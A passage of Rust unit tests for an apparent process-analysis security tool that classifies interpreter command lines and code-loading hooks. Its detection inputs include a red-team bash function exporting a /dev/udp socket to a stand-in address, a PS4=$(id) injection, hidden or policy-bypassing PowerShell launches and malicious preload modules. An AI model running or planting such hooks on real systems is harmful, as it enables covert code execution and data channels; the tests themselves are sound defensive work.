            (ps, &["pwsh", "-f", "x.ps1"], "/w", File("/w/x.ps1")),
            (ps, &["pwsh", "-FILE", "x.ps1"], "/w", File("/w/x.ps1")),
            (ps, &["pwsh", "--file", "x.ps1"], "/w", File("/w/x.ps1")),
            (
                ps,
                &["pwsh", "-ExecutionPolicy", "Bypass", "-File", "x.ps1"],
                "/w",
                File("/w/x.ps1"),
            ),
            (
                ps,
                &["pwsh", "-ep", "Bypass", "x.ps1"],
                "/w",
                File("/w/x.ps1"),
            ),
            (
                ps,
                &["pwsh", "-ex", "Bypass", "x.ps1"],
                "/w",
                File("/w/x.ps1"),
            ),
            (
                ps,
                &["pwsh", "-nop", "-noni", "-nol", "x.ps1"],
                "/w",
                File("/w/x.ps1"),
            ),
            (
                ps,
                &["pwsh", "-WorkingDirectory", "/tmp", "x.ps1"],
                "/w",
                File("/w/x.ps1"),
            ),
            (
                ps,
                &["pwsh", "-WindowStyle", "Hidden", "x.ps1"],
                "/w",
                File("/w/x.ps1"),
            ),
            (
                ps,
                &["pwsh", "-Command", "Get-Date"],
                "/w",
                Inline("Get-Date"),
            ),
            (
                ps,
                &["pwsh", "-c", "Get-Date", "-Format", "o"],
                "/w",
                Inline("Get-Date -Format o"),
            ),
            (
                ps,
                &["pwsh", "-NoProfile", "-com", "Write-Host", "x.ps1"],
                "/w",
                Inline("Write-Host x.ps1"),
            ),
            (ps, &["pwsh", "-COMMAND", "1"], "/w", Inline("1")),
            (ps, &["pwsh", "-Command", "-"], "/w", Stdin),
            (ps, &["pwsh", "-File", "-"], "/w", Stdin),
            (ps, &["pwsh", "-Command"], "/w", Inline("")),
            (ps, &["pwsh", "-cwa", "$args", "a"], "/w", Inline("$args")),
            (
                ps,
                &["pwsh", "-EncodedCommand", &encoded],
                "/w",
                Inline("Invoke-WebRequest https://x -UseBasicParsing"),
            ),
            (
                ps,
                &["pwsh", "-e", &encoded],
                "/w",
                Inline("Invoke-WebRequest https://x -UseBasicParsing"),
            ),
            (
                ps,
                &["pwsh", "-ec", &encoded],
                "/w",
                Inline("Invoke-WebRequest https://x -UseBasicParsing"),
            ),
            (
                ps,
                &["pwsh", "-enc", &encoded],
                "/w",
                Inline("Invoke-WebRequest https://x -UseBasicParsing"),
            ),
            (
                ps,
                &["pwsh", "-ENCODEDCOMMAND", &encoded_unicode],
                "/w",
                Inline("Write-Host 'h\u{e9}llo \u{1F600}'"),
            ),
            (
                ps,
                &["pwsh", "-e", "not*base64"],
                "/w",
                Inline("not*base64"),
            ),
            (ps, &["pwsh"], "/w", Interactive),
            (ps, &["pwsh", "-NoExit", "-Login"], "/w", Interactive),
            (ps, &["pwsh", "-Version"], "/w", Interactive),
            (ps, &["pwsh", "-Bogus", "x.ps1"], "/w", File("/w/x.ps1")),
        ]);
    }

    #[test]
    fn swift_grammar() {
        use Want::*;
        check_table(&[
            (
                "/usr/bin/swift",
                &["swift", "x.swift", "a"],
                "/w",
                File("/w/x.swift"),
            ),
            (
                "/usr/bin/swift",
                &["swift", "-I", "inc", "x.swift"],
                "/w",
                File("/w/x.swift"),
            ),
            (
                "/usr/bin/swift",
                &["swift", "./tool"],
                "/w",
                File("/w/tool"),
            ),
            ("/usr/bin/swift", &["swift"], "/w", Interactive),
            ("/usr/bin/swift", &["swift", "repl"], "/w", Interactive),
            ("/usr/bin/swift", &["swift", "-"], "/w", Stdin),
            (
                "/usr/bin/swift-frontend",
                &[
                    "swift-frontend",
                    "-frontend",
                    "-interpret",
                    "x.swift",
                    "-module-name",
                    "x",
                ],
                "/w",
                File("/w/x.swift"),
            ),
        ]);
        for args in [
            &["swift", "build"][..],
            &["swift", "package", "init"],
            &["swift", "-v", "test"],
        ] {
            assert_eq!(
                analyze("/usr/bin/swift", &argv(args), "/w"),
                None,
                "{args:?}"
            );
        }
        assert_eq!(
            analyze(
                "/usr/bin/swift-frontend",
                &argv(&["swift-frontend", "-frontend", "-c", "a.swift"]),
                "/w"
            ),
            None
        );
    }

    #[test]
    fn paths_resolve_lexically_against_cwd() {
        let cases = [
            ("/home/u", "x.py", "/home/u/x.py"),
            ("/home/u/", "./a/./b/../x.py", "/home/u/a/x.py"),
            ("/", "../../x.py", "/x.py"),
            ("/home/u", "/abs//dir/./x.py", "/abs/dir/x.py"),
            ("/home/u", "/../x.py", "/x.py"),
            // Unknown cwd: the path stays relative (normalized), so callers can tell.
            ("", "x.py", "x.py"),
            ("", "./x.py", "x.py"),
            ("", "../x.py", "../x.py"),
            ("", "a/../../x.py", "../x.py"),
            ("", "/abs/x.py", "/abs/x.py"),
        ];
        for (cwd, path, want) in cases {
            let got = run("/usr/bin/python3", &["python3", path], cwd);
            assert_eq!(got.script_path, want, "cwd {cwd:?} path {path:?}");
        }
        // An empty script name names no file.
        assert_eq!(
            run("/usr/bin/python3", &["python3", ""], "/w").script_path,
            ""
        );
        // ruby -C with an unknown cwd keeps the relative chain.
        assert_eq!(
            run("/usr/bin/ruby", &["ruby", "-C", "d", "x.rb"], "").script_path,
            "d/x.rb"
        );
    }

    #[test]
    fn inline_hash_is_of_exactly_the_code_text() {
        let inv = run(
            "/usr/bin/python3",
            &["python3", "-c", "print('hi')\n"],
            "/w",
        );
        assert_eq!(inv.inline_sha256, sha256_hex(b"print('hi')\n"));
        assert_eq!(inv.interpreter, "python");
        assert!(inv.script_path.is_empty() && inv.module.is_empty());
        // sha256("abc"), independently known.
        let inv = run("/usr/bin/bash", &["bash", "-c", "abc"], "/w");
        assert_eq!(
            inv.inline_sha256,
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
    }

    #[test]
    fn adversarial_argv_never_panics_and_stays_conservative() {
        let interpreters = [
            "/usr/bin/python3",
            "/usr/bin/perl",
            "/usr/bin/ruby",
            "/usr/bin/node",
            "/usr/bin/php",
            "/usr/bin/tclsh",
            "/bin/sh",
            "/bin/bash",
            "/bin/dash",
            "/bin/zsh",
            "/bin/ksh",
            "/usr/bin/osascript",
            "/usr/bin/pwsh",
            "/usr/bin/swift",
        ];
        let long_arg = "-".repeat(10_000) + "c";
        let many: Vec<String> = (0..20_000).map(|n| format!("-{}", n % 7)).collect();
        let odd: &[&[&str]] = &[
            &[],
            &["x"],
            &[""],
            &["x", ""],
            &["x", "-"],
            &["x", "--"],
            &["x", "---"],
            &["x", "-\u{e9}\u{1F600}c", "code"],
            &["x", "\u{FFFD}\u{FFFD}", "a"],
            &["x", "-\u{0}"],
            &["x", "-o"],
            &["x", "-W"],
            &["x", "-I"],
            &["x", "-C"],
            &["x", "-encoding"],
            &["x", "-ExecutionPolicy"],
            &["x", "-e", "", "-e"],
            &["x", "=", "-="],
            &["x", &long_arg],
        ];
        for exe in interpreters {
            for args in odd {
                // Must not panic; the result is whatever the grammar says.
                let _ = analyze(exe, &argv(args), "/w");
                let _ = analyze(exe, &argv(args), "");
            }
            let mut big = vec!["x".to_owned()];
            big.extend(many.iter().cloned());
            let _ = analyze(exe, &big, "/w");
        }
        // Empty argv: the code cannot be seen, so it is not the trusted interpreter.
        for exe in interpreters {
            let inv = analyze(exe, &[], "/w").unwrap_or_else(|| panic!("{exe}"));
            assert_eq!(inv.kind, ScriptKind::Stdin, "{exe}");
        }
        // A title written over argv (setproctitle, process.title): code unseen.
        for args in [
            &["gunicorn: master [app]"][..],
            &["worker", "", "", ""],
            &["python3 /tmp/x.py --flag"],
        ] {
            assert_eq!(
                run("/usr/bin/python3", args, "/w").kind,
                ScriptKind::Stdin,
                "{args:?}"
            );
            assert_eq!(
                run("/usr/bin/node", args, "/w").kind,
                ScriptKind::Stdin,
                "{args:?}"
            );
        }
        // …but a real REPL or login shell keeps its interpreter name.
        assert_eq!(
            run("/usr/bin/python3", &["/usr/bin/python3"], "/w").kind,
            ScriptKind::Interactive
        );
        assert_eq!(
            run("/usr/bin/bash", &["-bash"], "/w").kind,
            ScriptKind::Interactive
        );
        assert_eq!(
            run("/usr/bin/dash", &["-sh"], "/w").kind,
            ScriptKind::Interactive
        );
        assert_eq!(
            run("/usr/bin/python3", &["python3", ""], "/w").kind,
            ScriptKind::File
        );
        // argv[0] only follows each interpreter's no-script rule.
        assert_eq!(
            run("/usr/bin/python3", &["python3"], "/w").kind,
            ScriptKind::Interactive
        );
        assert_eq!(
            run("/usr/bin/perl", &["perl"], "/w").kind,
            ScriptKind::Stdin
        );
        // Non-UTF-8 argv arrives lossily decoded (U+FFFD); it is still a path.
        let inv = run("/usr/bin/python3", &["python3", "\u{FFFD}.py"], "/w");
        assert_eq!(inv.script_path, "/w/\u{FFFD}.py");
        // A very long `-c` cluster of unknown flags ends in -c and takes the code.
        let inv = run(
            "/usr/bin/python3",
            &["python3", "-uuuuuuuuuuuuuuuuuuuuuuuuc", "1"],
            "/w",
        );
        assert_eq!(inv.kind, ScriptKind::Inline);
    }

    #[test]
    fn hooks_with_no_file_and_cache_or_library_trees_are_loads() {
        use LoadTarget::*;
        let vias =
            |loads: Vec<CodeLoad>| -> Vec<String> { loads.into_iter().map(|l| l.via).collect() };
        let none = PythonFlags::default();
        // Red team: an exported function in place of `echo` inside /usr/bin/ldd; a
        // trace prompt with a command substitution; forged bytecode; Tcl's init.tcl.
        let shell_env = [
            "BASH_FUNC_echo%%=() {  exec 3<>/dev/udp/192.0.2.7/53; }",
            "PS4=$(id)",
            "SHELLOPTS=xtrace",
        ]
        .map(String::from);
        assert_eq!(
            vias(environment_loads("bash", &shell_env, &none)),
            ["BASH_FUNC_echo%%", "PS4"]
        );
        assert!(environment_loads("bash", &shell_env, &none)
            .iter()
            .all(|l| matches!(l.target, Code(_))));
        // Benign: the default prompt, plain variables.
        let plain = ["PS4=+ ", "SHELLOPTS=braceexpand", "HOME=/h"].map(String::from);
        assert!(environment_loads("bash", &plain, &none).is_empty());
        let py = ["PYTHONPYCACHEPREFIX=/home/u/pc".to_owned()];
        assert_eq!(
            environment_loads("python", &py, &none)[0].target,
            Dir("/home/u/pc".into())
        );
        let ignore = PythonFlags {
            ignore_environment: true,
            ..Default::default()
        };
        assert!(environment_loads("python", &py, &ignore).is_empty());
        let tcl = ["TCL_LIBRARY=/home/u/tcl", "TCLLIBPATH=/a /b"].map(String::from);
        assert_eq!(
            environment_loads("tclsh", &tcl, &none)
                .into_iter()
                .map(|l| l.target)
                .collect::<Vec<_>>(),
            [
                Dir("/home/u/tcl".into()),
                Dir("/a".into()),
                Dir("/b".into())
            ]
        );
        // Options: perl -d (PERL5DB, .perldb), python -X pycache_prefix, bash --rcfile.
        assert!(matches!(
            loads_of("/usr/bin/perl", &["perl", "-d", "/usr/bin/json_pp"])[..],
            [(ref via, Code(_))] if via == "perl -d"
        ));
        assert_eq!(
            loads_of("/usr/bin/perl", &["perl", "-d:NYTProf", "x.pl"]),
            [("perl -d:".to_owned(), Module("Devel::NYTProf".into()))]
        );
        assert_eq!(
            loads_of(
                "/usr/bin/python3.11",
                &["python3", "-X", "pycache_prefix=/h/pc", "-m", "json.tool"]
            ),
            [("python -X pycache_prefix".to_owned(), Dir("/h/pc".into()))]
        );
        assert!(loads_of(
            "/usr/bin/python3.11",
            &["python3", "-X", "importtime", "x.py"]
        )
        .is_empty());
        assert_eq!(
            loads_of("/usr/bin/bash", &["bash", "--rcfile", "/h/rc", "-i"]),
            [("bash --rcfile".to_owned(), File("/h/rc".into()))]
        );
    }

    #[test]
    fn login_shells_load_the_users_profile() {
        let home = |names: &[&str], via: &str| -> Vec<(String, LoadTarget)> {
            names
                .iter()
                .map(|n| (via.to_owned(), LoadTarget::HomeFile((*n).to_owned())))
                .collect()
        };
        let bash_profiles = [".bash_profile", ".bash_login", ".profile"];
        for argv in [
            &["bash", "-l", "/usr/bin/tzselect"][..],
            &["bash", "--login", "/usr/bin/tzselect"],
            &["bash", "-el", "/usr/bin/tzselect"],
            &["-bash", "/usr/bin/tzselect"],
            &["-su", "-c", "echo"],
        ] {
            assert_eq!(
                loads_of("/usr/bin/bash", argv),
                home(&bash_profiles, "bash login shell"),
                "{argv:?}"
            );
        }
        for argv in [&["dash", "-l", "x.sh"][..], &["-sh", "x.sh"]] {
            assert_eq!(
                loads_of("/usr/bin/dash", argv),
                home(&[".profile"], "dash login shell"),
                "{argv:?}"
            );
        }
        assert_eq!(
            loads_of("/bin/busybox", &["-sh", "x.sh"]),
            home(&[".profile"], "sh login shell")
        );
        // zsh reads ~/.zshenv in every start (not under -f / --no-rcs).
        assert_eq!(
            loads_of("/bin/zsh", &["zsh", "x.zsh"]),
            home(&[".zshenv"], "zsh")
        );
        assert!(loads_of("/bin/zsh", &["zsh", "-f", "x.zsh"]).is_empty());
        assert!(loads_of("/bin/zsh", &["-zsh", "--no-rcs", "x.zsh"]).is_empty());
        let zsh_login = loads_of("/bin/zsh", &["zsh", "-l", "x.zsh"]);
        assert_eq!(zsh_login.len(), 3, "{zsh_login:?}");
        // Benign: no login, or --noprofile.
        assert!(loads_of("/usr/bin/bash", &["bash", "/usr/bin/tzselect"]).is_empty());
        assert!(loads_of("/usr/bin/bash", &["bash", "--noprofile", "-l", "x.sh"]).is_empty());
        assert!(loads_of("/usr/bin/dash", &["sh", "-e", "x.sh"]).is_empty());
        // `x.sh -l` is an argument of the script, not an option.
        assert!(loads_of("/usr/bin/bash", &["bash", "x.sh", "-l"]).is_empty());
    }

    /// `-i` makes an interactive shell even with a script operand: bash reads
    /// `~/.bashrc` (not with `--norc`, `--rcfile`, or as a login shell, which reads
    /// its profile), zsh `~/.zshrc`.
    #[test]
    fn interactive_shells_load_the_users_rc_file() {
        let bashrc = vec![(
            "bash interactive shell".to_owned(),
            LoadTarget::HomeFile(".bashrc".into()),
        )];
        for argv in [
            &["bash", "-i", "/usr/bin/tzselect"][..],
            &["bash", "-ei", "/usr/bin/tzselect"],
            &["bash", "-o", "errexit", "-i", "/usr/bin/tzselect"],
        ] {
            assert_eq!(loads_of("/usr/bin/bash", argv), bashrc, "{argv:?}");
        }
        assert_eq!(
            loads_of(
                "/usr/bin/bash",
                &["bash", "--rcfile", "/h/rc", "-i", "x.sh"]
            ),
            [("bash --rcfile".to_owned(), LoadTarget::File("/h/rc".into()))]
        );
        assert!(loads_of("/usr/bin/bash", &["bash", "--norc", "-i", "x.sh"]).is_empty());
        assert_eq!(loads_of("/usr/bin/bash", &["bash", "-il", "x.sh"]).len(), 3);
        let zsh = loads_of("/bin/zsh", &["zsh", "-i", "x.zsh"]);
        assert_eq!(
            zsh.last(),
            Some(&(
                "zsh interactive shell".to_owned(),
                LoadTarget::HomeFile(".zshrc".into())
            )),
            "{zsh:?}"
        );
        assert!(loads_of("/bin/zsh", &["zsh", "-f", "-i", "x.zsh"]).is_empty());
        // ksh and mksh: their default rc files, both (which ksh is not known).
        for exe in ["/usr/bin/ksh93", "/usr/bin/mksh"] {
            let names: Vec<LoadTarget> = loads_of(exe, &["ksh", "-i", "x.sh"])
                .into_iter()
                .map(|(_, target)| target)
                .collect();
            assert_eq!(
                names,
                [
                    LoadTarget::HomeFile(".kshrc".into()),
                    LoadTarget::HomeFile(".mkshrc".into())
                ],
                "{exe}"
            );
            assert!(loads_of(exe, &["ksh", "x.sh"]).is_empty(), "{exe}");
        }
        // `x.sh -i` is an argument of the script.
        assert!(loads_of("/usr/bin/bash", &["bash", "x.sh", "-i"]).is_empty());
    }

    #[test]
    fn python_runners_venvs_and_platlibdir_are_named() {
        for path in [
            "/usr/lib/python3.11/cProfile.py",
            "/usr/lib/python3.11/timeit.py",
            "/usr/lib/python3.11/pdb.py",
            "/usr/lib/python3.11/runpy.py",
            "/usr/lib/python3.11/unittest/__main__.py",
        ] {
            assert!(python_code_runner(path).is_some(), "{path}");
        }
        for path in [
            "/usr/lib/python3.11/json/tool.py",
            "/usr/bin/profile",
            "/usr/lib/python3.11/http/server.py",
        ] {
            assert!(python_code_runner(path).is_none(), "{path}");
        }
        let env = ["PATH=/h/v/bin:rel:/usr/bin".to_owned()];
        assert_eq!(
            python_program_candidates("python3", "/w", &env).unwrap_or_default(),
            ["/h/v/bin/python3", "/w/rel/python3", "/usr/bin/python3"]
        );
        assert_eq!(
            python_program_candidates("../v/bin/python", "/w/x", &env).unwrap_or_default(),
            ["/w/v/bin/python"]
        );
        assert!(python_program_candidates("./python", "", &env).is_err());
        assert!(python_program_candidates("python3", "/", &[])
            .unwrap_or_default()
            .is_empty());
        assert_eq!(pyvenv_dirs("/h/v/bin/python3"), ["/h/v/bin", "/h/v"]);
        assert_eq!(pyvenv_dirs("/python3"), ["/", "/"]);
        let none = PythonFlags::default();
        let platlib = ["PYTHONPLATLIBDIR=../home/u/pl".to_owned()];
        assert_eq!(
            environment_loads("python", &platlib, &none)[0].target,
            LoadTarget::Dir("/home/u/pl".into())
        );
        let ignore = PythonFlags {
            ignore_environment: true,
            ..Default::default()
        };
        assert!(environment_loads("python", &platlib, &ignore).is_empty());
    }

    #[test]
    fn node_settings_files_and_library_variables_are_loads() {
        use LoadTarget::*;
        let node = "/usr/bin/node";
        let main = "/usr/lib/node_modules/corepack/dist/corepack.js";
        assert_eq!(
            loads_of(node, &["node", "--env-file=/h/.env", main]),
            [("node --env-file".to_owned(), Config("/h/.env".into()))]
        );
        assert_eq!(
            loads_of(node, &["node", "--env-file-if-exists", "a.env", main]),
            [(
                "node --env-file-if-exists".to_owned(),
                Config("a.env".into())
            )]
        );
        assert_eq!(
            loads_of(node, &["node", "--snapshot-blob", "/h/s.blob", main]),
            [("node --snapshot-blob".to_owned(), File("/h/s.blob".into()))]
        );
        assert_eq!(
            run(node, &["node", "--env-file", "x", main], "/w").kind,
            ScriptKind::File
        );
        let none = PythonFlags::default();
        let env = [
            "OPENSSL_CONF=/h/o.cnf",
            "OPENSSL_MODULES=/h/m",
            "OPENSSL_ENGINES=/h/e",
            "GCONV_PATH=/h/g:/usr/lib/x86_64-linux-gnu/gconv",
        ]
        .map(String::from);
        // Every process, binaries included.
        assert_eq!(
            environment_loads("", &env, &none)
                .into_iter()
                .map(|l| l.target)
                .collect::<Vec<_>>(),
            [
                Config("/h/o.cnf".into()),
                Dir("/h/m".into()),
                Dir("/h/e".into()),
                Dir("/h/g".into()),
                Dir("/usr/lib/x86_64-linux-gnu/gconv".into()),
            ]
        );
    }

    #[test]
    fn ssh_provider_libraries_are_loads() {
        let loads = |args: &[&str]| -> Vec<(String, LoadTarget)> {
            program_loads("/usr/bin/ssh", &argv(args), &[])
                .into_iter()
                .map(|l| (l.via, l.target))
                .collect()
        };
        let file = |p: &str| LoadTarget::File(p.to_owned());
        assert_eq!(
            loads(&["ssh", "-I", "/h/p.so", "host"]),
            [("ssh -I".to_owned(), file("/h/p.so"))]
        );
        assert_eq!(
            loads(&["ssh", "-vI/h/p.so", "host"]),
            [("ssh -I".to_owned(), file("/h/p.so"))]
        );
        for option in [
            "-oPKCS11Provider=/h/p.so",
            "-opkcs11provider /h/p.so",
            "-oPkcs11Provider = /h/p.so",
        ] {
            assert_eq!(
                loads(&["ssh", option, "host"]),
                [("ssh -o PKCS11Provider".to_owned(), file("/h/p.so"))],
                "{option}"
            );
        }
        // Options after the destination count, as ssh reads them.
        assert_eq!(
            loads(&["ssh", "host", "-o", "SecurityKeyProvider=/h/sk.so"]),
            [("ssh -o SecurityKeyProvider".to_owned(), file("/h/sk.so"))]
        );
        // Benign: none/internal, the remote command's words, other programs.
        assert!(loads(&["ssh", "-o", "SecurityKeyProvider=internal", "host"]).is_empty());
        assert!(loads(&["ssh", "-o", "PKCS11Provider=none", "host"]).is_empty());
        assert!(loads(&["ssh", "host", "ls", "-I", "x"]).is_empty());
        assert!(program_loads("/usr/bin/scp", &argv(&["scp", "-I", "/h/p.so"]), &[]).is_empty());
        let env = ["SSH_SK_PROVIDER=/h/sk.so".to_owned()];
        assert_eq!(
            environment_loads("", &env, &PythonFlags::default())[0].target,
            file("/h/sk.so")
        );
    }

    #[test]
    fn what_a_jvm_runs_is_a_load() {
        use LoadTarget::*;
        let java = "/usr/lib/jvm/java-17-openjdk-amd64/bin/java";
        let loads = |args: &[&str], env: &[&str]| -> Vec<(String, LoadTarget)> {
            let env: Vec<String> = env.iter().map(|e| e.to_string()).collect();
            program_loads(java, &argv(args), &env)
                .into_iter()
                .map(|l| (l.via, l.target))
                .collect()
        };
        let l = |via: &str, t: LoadTarget| (via.to_owned(), t);
        let f = |p: &str| File(p.to_owned());
        let d = |p: &str| Dir(p.to_owned());
        assert_eq!(
            loads(&["java", "/h/B.java", "a"], &[]),
            [l("java (source file)", f("/h/B.java"))]
        );
        assert_eq!(
            loads(&["java", "--source", "17", "/h/script"], &[]),
            [l("java (source file)", f("/h/script"))]
        );
        assert_eq!(
            loads(
                &["java", "-cp", "/h/lib.jar", "-jar", "/h/app.jar", "x"],
                &[]
            ),
            [l("java -jar", f("/h/app.jar"))]
        );
        assert_eq!(
            loads(
                &["java", "-cp", "/h/c:/usr/share/java/*:a.jar", "Main"],
                &[]
            ),
            [
                l("java class path", d("/h/c")),
                l("java class path", d("/usr/share/java")),
                l("java class path", f("a.jar")),
            ]
        );
        assert_eq!(
            loads(&["java", "Main"], &["CLASSPATH=/h/c"]),
            [l("java class path (CLASSPATH)", d("/h/c"))]
        );
        assert_eq!(
            loads(&["java", "Main"], &[]),
            [l("java class path (the cwd)", d(""))]
        );
        assert_eq!(
            loads(
                &["java", "-javaagent:/h/a.jar=x", "@/h/args", "-m", "m/C"],
                &[]
            ),
            [
                l("java -javaagent", f("/h/a.jar")),
                l("java @argfile", Config("/h/args".into())),
            ]
        );
        assert_eq!(
            loads(
                &["java", "--version"],
                &["JAVA_TOOL_OPTIONS=-agentpath:/h/a.so"]
            ),
            [l("JAVA_TOOL_OPTIONS (java -agentpath)", f("/h/a.so"))]
        );
        // Agents by name, JNI search paths, patched modules, option files and
        // class-data archives.
        assert_eq!(
            loads(
                &[
                    "java",
                    "-agentlib:./x=y",
                    "-agentlib:jdwp=transport=dt_socket",
                    "-Djava.library.path=/h/n:/usr/lib/jni",
                    "-Dsun.boot.library.path=/h/b",
                    "-Dother.path=/h/o",
                    "--patch-module",
                    "java.base=/h/p:/h/q.jar",
                    "--patch-module=java.sql=/h/s",
                    "-XX:VMOptionsFile=/h/opts",
                    "-XX:Flags=.hotspotrc",
                    "-XX:SharedArchiveFile=/h/a.jsa:/h/b.jsa",
                    "-version",
                ],
                &[]
            ),
            [
                l("java -agentlib", f("lib./x.so")),
                l("java -Djava.library.path", d("/h/n")),
                l("java -Djava.library.path", d("/usr/lib/jni")),
                l("java -Dsun.boot.library.path", d("/h/b")),
                l("java --patch-module", d("/h/p")),
                l("java --patch-module", f("/h/q.jar")),
                l("java --patch-module", d("/h/s")),
                l("java -XX:VMOptionsFile", Config("/h/opts".into())),
                l("java -XX:Flags", Config(".hotspotrc".into())),
                l("java -XX:SharedArchiveFile", f("/h/a.jsa")),
                l("java -XX:SharedArchiveFile", f("/h/b.jsa")),
            ]
        );
        assert_eq!(
            loads(
                &["java", "-version"],
                &["JDK_JAVA_OPTIONS=-Djava.library.path=/h/n"]
            ),
            [l("JDK_JAVA_OPTIONS (java -Djava.library.path)", d("/h/n"))]
        );
        // Benign: the JDK's own modules, a package jar.
        assert!(loads(&["java", "-version"], &[]).is_empty());
        assert_eq!(
            loads(&["java", "-jar", "/usr/share/java/x.jar"], &[]),
            [l("java -jar", f("/usr/share/java/x.jar"))]
        );
        assert!(in_process_runner("/usr/lib/jvm/java-17-openjdk-amd64/bin/jshell").is_some());
        // The other JDK tools are JVMs too; a `jar` elsewhere is not one.
        for tool in [
            "jar",
            "keytool",
            "javac",
            "jrunscript",
            "jwebserver",
            "jnativescan",
            "jjs",
        ] {
            let path = format!("/usr/lib/jvm/java-17-openjdk-amd64/bin/{tool}");
            assert!(in_process_runner(&path).is_some(), "{path}");
        }
        assert!(in_process_runner("/usr/bin/jar").is_none());
        assert!(in_process_runner("/usr/lib/jvm/java-17-openjdk-amd64/lib/jexec").is_none());
        assert!(in_process_runner("/usr/lib/jvm/java-17-openjdk-amd64/bin/java").is_none());
    }

    #[test]
    fn programs_that_run_other_code_in_their_process_are_named() {
        for exe in [
            "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
            "/lib64/ld-linux-x86-64.so.2",
            "/lib/ld-musl-x86_64.so.1",
            "/lib64/ld64.so.2",
            "/usr/libexec/valgrind/memcheck-amd64-linux",
            "/usr/bin/qemu-x86_64-static",
            "/usr/bin/gdb",
            "/usr/bin/gdb-multiarch",
        ] {
            assert!(in_process_runner(exe).is_some(), "{exe}");
        }
        for exe in [
            "/usr/bin/ldd",
            "/usr/bin/ld",
            "/usr/bin/ldconfig",
            "/usr/bin/python3.11",
            "/usr/bin/valgrind",
            "/usr/bin/gdbus",
            "/usr/lib/x86_64-linux-gnu/libc.so.6",
        ] {
            assert!(in_process_runner(exe).is_none(), "{exe}");
        }
    }

    fn loads_of(exe: &str, args: &[&str]) -> Vec<(String, LoadTarget)> {
        run(exe, args, "/w")
            .loads
            .into_iter()
            .map(|l| (l.via, l.target))
            .collect()
    }

    #[test]
    fn code_loading_options_are_collected() {
        use LoadTarget::*;
        let m = |s: &str| Module(s.to_owned());
        let d = |s: &str| Dir(s.to_owned());
        let f = |s: &str| File(s.to_owned());
        let perl = "/usr/bin/perl";
        assert_eq!(
            loads_of(
                perl,
                &["perl", "-MFoo::Bar=x,y", "-I/tmp/lib", "-mstrict", "x.pl"]
            ),
            vec![
                ("perl -M".into(), m("Foo::Bar")),
                ("perl -I".into(), d("/tmp/lib")),
                ("perl -m".into(), m("strict")),
            ]
        );
        assert_eq!(
            loads_of(
                perl,
                &["perl", "-I", "lib", "-M-warnings", "-d:NYTProf", "x.pl"]
            ),
            vec![
                ("perl -I".into(), d("lib")),
                ("perl -M".into(), m("warnings")),
                ("perl -d:".into(), m("Devel::NYTProf")),
            ]
        );
        // Options after the script belong to it.
        assert!(loads_of(perl, &["perl", "x.pl", "-MFoo"]).is_empty());
        let ruby = "/usr/bin/ruby";
        assert_eq!(
            loads_of(
                ruby,
                &["ruby", "-rjson", "-r", "./evil.rb", "-I", "/tmp", "x.rb"]
            ),
            vec![
                ("ruby -r".into(), m("json")),
                ("ruby -r".into(), f("./evil.rb")),
                ("ruby -I".into(), d("/tmp")),
            ]
        );
        let node = "/usr/bin/node";
        assert_eq!(
            loads_of(
                node,
                &[
                    "node",
                    "-r",
                    "./hook.js",
                    "--require=dotenv/config",
                    "--import",
                    "file:///tmp/a.mjs",
                    "--loader=ts-node/esm",
                    "--experimental-loader",
                    "x-loader",
                    "--import=node:fs",
                    "app.js"
                ]
            ),
            vec![
                ("node -r".into(), f("./hook.js")),
                ("node --require".into(), f("dotenv/config")),
                ("node --import".into(), f("/tmp/a.mjs")),
                ("node --loader".into(), f("ts-node/esm")),
                ("node --experimental-loader".into(), m("x-loader")),
                ("node --import".into(), m("node:fs")),
            ]
        );
        assert_eq!(
            run(node, &["node", "-r", "x", "app.js"], "/w").script_path,
            "/w/app.js"
        );
        let py = run("/usr/bin/python3", &["python3", "-Es", "-i", "x.py"], "/w");
        assert!(py.python.ignore_environment && py.python.no_user_site && py.python.inspect);
        assert!(!py.python.safe_path);
        let py = run("/usr/bin/python3", &["python3", "-I", "-m", "x"], "/w");
        assert!(py.python.ignore_environment && py.python.no_user_site && py.python.safe_path);
        assert!(!py.module_from_cwd);
    }

    fn env(items: &[&str]) -> Vec<String> {
        items.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn code_loading_variables_are_collected_per_interpreter() {
        use LoadTarget::*;
        let none = PythonFlags::default();
        let binary = environment_loads(
            "",
            &env(&[
                "LD_PRELOAD=/tmp/a.so libfoo.so:/tmp/b.so",
                "LD_LIBRARY_PATH=/opt/lib::/usr/lib",
                "LD_AUDIT=/tmp/audit.so",
                "PERL5LIB=/tmp",
                "HOME=/root",
                "LD_PRELOAD=",
            ]),
            &none,
        );
        assert_eq!(
            binary
                .iter()
                .map(|l| (l.via.as_str(), l.target.clone()))
                .collect::<Vec<_>>(),
            vec![
                ("LD_PRELOAD", File("/tmp/a.so".into())),
                ("LD_PRELOAD", Module("libfoo.so".into())),
                ("LD_PRELOAD", File("/tmp/b.so".into())),
                ("LD_LIBRARY_PATH", Dir("/opt/lib".into())),
                ("LD_LIBRARY_PATH", Dir("".into())),
                ("LD_LIBRARY_PATH", Dir("/usr/lib".into())),
                ("LD_AUDIT", File("/tmp/audit.so".into())),
            ],
            "PERL5LIB is perl's business only"
        );
        let perl = environment_loads(
            "perl",
            &env(&[
                "PERL5OPT=-MEvil -Mstrict Ilib",
                "PERL5LIB=/home/u/lib:/usr/share/perl5",
            ]),
            &none,
        );
        let perl: Vec<_> = perl
            .iter()
            .map(|l| (l.via.as_str(), l.target.clone()))
            .collect();
        assert_eq!(
            perl,
            vec![
                ("PERL5OPT (perl -M)", Module("Evil".into())),
                ("PERL5OPT (perl -M)", Module("strict".into())),
                ("PERL5OPT (perl -I)", Dir("lib".into())),
                ("PERL5LIB", Dir("/home/u/lib".into())),
                ("PERL5LIB", Dir("/usr/share/perl5".into())),
            ]
        );
        let ruby = environment_loads(
            "ruby",
            &env(&["RUBYOPT=-rx rubygems -I/t", "RUBYLIB=/r"]),
            &none,
        );
        let ruby: Vec<_> = ruby
            .iter()
            .map(|l| (l.via.as_str(), l.target.clone()))
            .collect();
        assert_eq!(
            ruby,
            vec![
                ("RUBYOPT (ruby -r)", Module("x".into())),
                ("RUBYOPT (ruby -r)", Module("ubygems".into())),
                ("RUBYOPT (ruby -I)", Dir("/t".into())),
                ("RUBYLIB", Dir("/r".into())),
            ]
        );
        let node = environment_loads(
            "node",
            &env(&[
                "NODE_OPTIONS=--max-old-space-size=100 --require \"/tmp/h k.js\" --import=x",
                "NODE_PATH=/n",
            ]),
            &none,
        );
